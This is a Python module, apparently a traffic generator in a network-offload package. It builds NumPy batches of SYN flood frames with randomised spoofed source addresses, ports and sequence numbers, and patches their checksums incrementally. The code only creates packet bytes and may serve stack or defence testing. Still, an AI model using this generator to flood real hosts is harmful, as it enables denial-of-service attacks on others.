"""SYN floods built with NumPy from one template: a whole batch of frames at once.

The template is made once with the wire Reprs (checksums and all); every
frame then gets its own source address (low 16 bits), source port and
sequence number, and both checksums are updated for them (RFC 1624: the
template's fields are zero, so each update only adds the new words).
"""

from __future__ import annotations

from ipaddress import IPv4Address

import numpy as np
import numpy.typing as npt

from netoffload.wire import (
    EthernetRepr,
    Ipv4Repr,
    MacAddress,
    TcpFlags,
    TcpMss,
    TcpRepr,
)

ETH_HLEN = 14
IP_HLEN = 20
_IP_CSUM = ETH_HLEN + 10
_SRC_LOW = ETH_HLEN + 14  # the low 16 bits of the source address
_SPORT = ETH_HLEN + IP_HLEN
_SEQ = _SPORT + 4
_TCP_CSUM = _SPORT + 16


def _fold(total: npt.NDArray[np.int64]) -> npt.NDArray[np.int64]:
    for _ in range(3):
        total = (total & 0xFFFF) + (total >> 16)
    return total


def syn_flood(
    count: int,
    *,
    src_mac: MacAddress,
    dst_mac: MacAddress,
    source_net: IPv4Address,
    dst: IPv4Address,
    dport: int,
    seed: int,
) -> npt.NDArray[np.uint8]:
    """``count`` SYN frames (one per row) from random sources in ``source_net``/16."""
    if int(source_net) & 0xFFFF:
        raise ValueError("the source network is a /16")
    tcp = TcpRepr(0, dport, 0, 0, TcpFlags.SYN, 64240, options=(TcpMss(1460),))
    ip = Ipv4Repr(source_net, dst, 6, tcp.buffer_len(0), ttl=64, dont_frag=True)
    eth = EthernetRepr(dst_mac, src_mac, ethertype=0x0800)
    frame = bytearray(ETH_HLEN + ip.header_len + tcp.buffer_len(0))
    eth.emit(frame)
    ip.emit(frame, ETH_HLEN)
    tcp.emit(frame, ETH_HLEN + ip.header_len, payload=b"", src=source_net, dst=dst)
    rng = np.random.default_rng(seed)
    rows = np.tile(np.frombuffer(bytes(frame), dtype=np.uint8), (count, 1))
    low = rng.integers(1, 0xFFFF, count, dtype=np.int64)
    sport = rng.integers(1024, 0x10000, count, dtype=np.int64)
    seq = rng.integers(0, 1 << 32, count, dtype=np.int64)
    words = {
        _SRC_LOW: low,
        _SPORT: sport,
        _SEQ: seq >> 16,
        _SEQ + 2: seq & 0xFFFF,
    }
    for at, value in words.items():
        rows[:, at] = value >> 8
        rows[:, at + 1] = value & 0xFF
    ip_old = int.from_bytes(frame[_IP_CSUM : _IP_CSUM + 2], "big")
    tcp_old = int.from_bytes(frame[_TCP_CSUM : _TCP_CSUM + 2], "big")
    # ~C' = ~C + m' for every new word m' where the template held zero.
    ip_sum = _fold((~ip_old & 0xFFFF) + low)
    tcp_sum = _fold((~tcp_old & 0xFFFF) + sum(words.values()))
    for at, value in ((_IP_CSUM, ~ip_sum & 0xFFFF), (_TCP_CSUM, ~tcp_sum & 0xFFFF)):
        rows[:, at] = value >> 8
        rows[:, at + 1] = value & 0xFF
    return rows
